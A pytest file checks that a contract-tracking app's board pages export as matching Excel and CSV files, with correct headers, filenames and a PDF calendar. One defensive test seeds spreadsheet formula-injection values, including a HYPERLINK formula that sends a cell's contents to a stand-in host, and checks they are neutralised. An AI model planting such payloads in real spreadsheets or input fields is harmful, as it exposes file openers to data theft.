"""Does each board leave as Excel and as CSV with what its page shows, and as a file that is safe to open?"""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import date, datetime
from typing import Any

import openpyxl
import pytest
import shared_world
import visits
from rows import add_deliverable
from shared_world import Shared
from sqlalchemy import event, update
from sqlmodel import col
from statements import rows_read
from visits import LIAISON, MANAGER, NOW, WA, World

from duecourse.models import ContractRow, Deliverable, Person
from duecourse.models.database import writing

filled, make_world, world = visits.filled, visits.make_world, visits.world
shared = shared_world.shared

BOARDS = {
    "/tables/due": "/",
    "/tables/overdue": "/overdue",
    "/tables/owed": "/owed",
    "/tables/not-sent": "/notices",
    f"/contracts/{WA}/year": f"/contracts/{WA}",
    f"/contracts/{WA}/people": f"/contracts/{WA}/people",
    f"/contracts/{WA}/enrollment": f"/contracts/{WA}/enrollment",
}


def csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[dict[str, Any]]:
    header, *rows = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("path", BOARDS)
def test_a_board_leaves_as_both_kinds_of_files_with_what_it_is_for_whom_and_as_of_when(
    shared: Shared, path: str
) -> None:
    visit = shared.visits[LIAISON]
    page = visit.get(BOARDS[path]).text
    links = re.findall(rf'href="({re.escape(path)}\.(?:xlsx|csv)[^"]*)"', page)
    if path.endswith("/enrollment"):
        # No month of this contract's figures is shown before its services began; the table is there all the same.
        links = links or [f"{path}.xlsx", f"{path}.csv"]
    excel, text = (visit.get(html.unescape(link)) for link in links)
    assert excel.status_code == text.status_code == 200
    assert excel.headers["content-type"].endswith("spreadsheetml.sheet")
    assert text.headers["content-type"] == "text/csv; charset=utf-8"
    assert ".xlsx" in excel.headers["content-disposition"] and "attachment" in text.headers["content-disposition"]
    first, second = xlsx_rows(excel.content), csv_rows(text.content)
    assert len(first) == len(second)
    assert [list(row) for row in first[:1]] == [list(row) for row in second[:1]]
    about = dict(openpyxl.load_workbook(io.BytesIO(excel.content))["About"].iter_rows(values_only=True))
    assert about["For"] == f"Lee Chen, {LIAISON}" and about["As of"] == "Wed Nov 30, 2022, 9:00 AM Pacific"


def test_the_overdue_table_has_the_rows_of_its_page_with_dates_as_dates(shared: Shared) -> None:
    visit = shared.visits[LIAISON]
    page = visit.get("/overdue").text
    found = xlsx_rows(visit.get("/tables/overdue.xlsx").content)
    uids = re.findall(r'href="/deliverables/([0-9a-f-]{36})"', page)
    assert [row["page"].rpartition("/")[2] for row in found] == uids
    assert {row["group"] for row in found} >= {"Reports"}
    reports = [row for row in found if row["group"] == "Reports"]
    for row in reports:
        assert f'<strong class="late">{row["days late"]} day' in page and html.escape(row["due"]) in page
        assert isinstance(row["due on"], datetime) and isinstance(row["late from"], datetime)
    told = next(row for row in found if row["last told"])
    assert told["last told"] == "Ana Ruiz" and told["told at"] == datetime.fromisoformat("2022-11-28 09:00:00")
    texts = csv_rows(visit.get("/tables/overdue.csv").content)
    assert [row["page"] for row in texts] == [row["page"] for row in found]
    assert all(
        re.fullmatch(r"20\d\d-\d\d-\d\dT\d\d:\d\d:\d\d-0[78]:00\[America/Los_Angeles\]", row["late from"])
        for row in texts
    )
    assert [date.fromisoformat(row["due on"]) for row in texts] == [row["due on"].date() for row in found]


@pytest.mark.parametrize("asked", ["q=rate+card", "holds_up=payment", "contract=ct-21oechvs01abc"])
def test_the_overdue_table_has_only_what_its_page_was_asked_for(shared: Shared, asked: str) -> None:
    visit = shared.visits[LIAISON]
    page = visit.get(f"/overdue?{asked}").text
    found = csv_rows(visit.get(f"/tables/overdue.csv?{asked}").content)
    uids = re.findall(r'href="/deliverables/([0-9a-f-]{36})"', page)
    assert [row["page"].rpartition("/")[2] for row in found] == uids
    assert len(found) < len(csv_rows(visit.get("/tables/overdue.csv").content))
    assert f'href="/tables/overdue.csv?{asked}"' in page


def test_the_tables_of_due_and_of_a_year_have_the_rows_of_their_pages(shared: Shared) -> None:
    for path, page_path, email in (
        ("/tables/due.csv", "/", MANAGER),
        (f"/contracts/{WA}/year.csv?year=2022", f"/contracts/{WA}?year=2022", LIAISON),
    ):
        visit = shared.visits[email]
        page = visit.get(page_path).text.partition("<main")[2]
        # A task leads to its page twice: by its title, and by its button.
        uids = dict.fromkeys(re.findall(r'href="/deliverables/([0-9a-f-]{36})', page))
        rows = csv_rows(visit.get(path).content)
        # The page shows the first of each group, the table all of them, in the same order.
        found = [row["page"].rpartition("/")[2] for row in rows]
        assert [uid for uid in found if uid in uids] == list(uids)
        assert len(rows) > 10
    named = visit.get(path).headers["content-disposition"]
    assert "wa-22-1174-FY22-2022-11-30.csv" in named


def test_a_table_of_people_can_be_brought_back(shared: Shared) -> None:
    visit = shared.visits[LIAISON]
    rows = csv_rows(visit.get(f"/contracts/{WA}/people.csv").content)
    page = visit.get(f"/contracts/{WA}/people").text
    assert [row["email"] for row in rows] == re.findall(r'href="mailto:([^"]+)"', page.partition("</table>")[0])
    out = io.StringIO(newline="")
    columns = ["name", "email", "part", "contract", "backup"]
    writer = csv.DictWriter(out, columns, extrasaction="ignore")
    writer.writeheader()
    writer.writerows(rows)
    file = {"file": ("people.csv", out.getvalue().encode())}
    answer = visit.post(f"/contracts/{WA}/import/people", files=file)
    assert answer.status_code == 200 and "Everything is there already." in answer.text


def test_what_people_typed_is_no_formula_in_any_table(world: World) -> None:
    evil = '=HYPERLINK("http://x/"&A1)'
    with writing(world.engine) as session:
        session.execute(update(Person).where(col(Person.email) == MANAGER).values(name=evil))
        session.execute(update(Deliverable).values(channel="@SUM(A1)", title="＝1+1"))
    visit = world.visitor(LIAISON)
    seen = set()
    for path in BOARDS:
        excel = visit.get(f"{path}.xlsx")
        assert excel.status_code == 200
        for sheet in openpyxl.load_workbook(io.BytesIO(excel.content)):
            for row in sheet.iter_rows():
                assert "f" not in {cell.data_type for cell in row}
                seen |= {cell.value for cell in row}
        for line in csv.reader(io.StringIO(visit.get(f"{path}.csv").text, newline="")):
            assert not [cell for cell in line if cell[:1] in tuple("=+@＝\t\r")]
    assert {evil, "@SUM(A1)", "＝1+1"} <= seen


def test_there_is_no_other_kind_of_file(shared: Shared) -> None:
    for path in (*BOARDS, f"/contracts/{WA}/import/people", f"/contracts/{WA}/import/nothing"):
        for ending in ("xls", "html", "xlsx.exe"):
            assert shared.visits[LIAISON].get(f"{path}.{ending}").status_code == 404
    assert shared.visits[LIAISON].get(f"/contracts/{WA}/import/nothing.csv").status_code == 404
    assert shared.visits[LIAISON].get(f"/contracts/{WA}/calendar.pdf?paper=folio").status_code == 404


def test_a_year_for_the_wall_is_linked_from_the_year_and_is_a_pdf(shared: Shared) -> None:
    visit = shared.visits[MANAGER]
    page = visit.get(f"/contracts/{WA}?year=2022").text
    links = [html.unescape(link) for link in re.findall(r'href="(/contracts/[^"]+\.pdf[^"]*)"', page)]
    assert len(links) == 2
    for link in links:
        answer = visit.get(link)
        assert answer.headers["content-type"] == "application/pdf" and answer.content.startswith(b"%PDF-")
    assert "wa-22-1174-FY22-a4.pdf" in answer.headers["content-disposition"]


def test_a_table_reads_what_it_shows_and_not_what_is_settled(world: World) -> None:
    visit, read = world.visitor(MANAGER), list[int]()
    for number in (0, 300):
        with writing(world.engine) as session:
            contract = session.get_one(ContractRow, WA)
            for _ in range(number):
                add_deliverable(session, contract, due_on=date(2022, 9, 20), submitted_at=NOW, accepted_at=NOW)
        with rows_read(world.engine) as rows:
            for path in ("due", "overdue"):
                assert visit.get(f"/tables/{path}.csv").status_code == 200
        read.append(sum(rows.values()))
    assert read[0] == read[1]


def test_a_table_asks_the_database_as_often_as_its_page(shared: Shared) -> None:
    visit, asked = shared.visits[LIAISON], []
    event.listen(shared.world.engine, "before_cursor_execute", lambda *given: asked.append(given[2]))
    for path, page_path in BOARDS.items():
        asked.clear()
        visit.get(page_path)
        of_page = len(asked)
        asked.clear()
        visit.get(f"{path}.csv")
        assert len(asked) <= of_page
